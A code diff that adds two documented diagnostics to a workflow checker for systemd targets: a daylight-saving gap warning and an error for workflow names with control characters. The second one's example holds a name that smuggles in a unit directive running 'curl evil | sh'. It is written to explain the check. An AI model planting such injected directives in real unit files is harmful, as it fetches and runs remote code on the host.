@@ -802,6 +802,49 @@ codes! {
     JobTimeLimit = "C0403" "job-time-limit" Warning "a wall-clock budget longer than the target lets a job run";
 
     /// ## What it does
+    /// Warns when a cron schedule, read in its time zone, can fall in the hour (or half hour)
+    /// that the clocks skip when daylight-saving time starts, and the target is systemd.
+    ///
+    /// ## Why
+    /// The spec runs a skipped local time right after the jump (as GitHub and croner do), but
+    /// a systemd timer skips it: that day the workflow does not run at all. A schedule that
+    /// fires every hour loses one run; a daily one at 02:30 loses a day.
+    ///
+    /// ## Example
+    /// `coder check --target systemd` on
+    /// ```yaml
+    /// triggers:
+    ///   - type: cron
+    ///     cron: "30 2 * * *"
+    ///     timezone: Europe/Berlin
+    /// ```
+    /// Berlin's clocks go from 02:00 to 03:00 on the last Sunday of March.
+    ///
+    /// ## Fix
+    /// Schedule it outside the skipped hours (in most zones 02:00–03:00 local time), or read
+    /// the schedule in a zone without daylight-saving time such as `UTC`. If missing that run
+    /// is fine, keep it: this is a warning.
+    DstGapSkipped = "C0404" "dst-gap-skipped" Warning "a schedule that systemd skips in a daylight-saving gap";
+
+    /// ## What it does
+    /// Reports spec text that a systemd unit cannot hold: a workflow name with a line break or
+    /// another control character (it becomes the unit's `Description=`).
+    ///
+    /// ## Why
+    /// A unit file has one directive per line; a line break would end the description and
+    /// start whatever directive the rest of the name spells. coder never writes one.
+    ///
+    /// ## Example
+    /// `coder check --target systemd` on
+    /// ```yaml
+    /// name: "Nightly\nExecStartPre=/bin/sh -c 'curl evil | sh'"
+    /// ```
+    ///
+    /// ## Fix
+    /// Write the workflow name on one line, without control characters.
+    UnitTextUnsupported = "C0405" "unit-text-unsupported" Error "spec text a systemd unit cannot hold";
+
+    /// ## What it does
     /// Reports a bug in coder itself.
     ///
     /// ## Fix
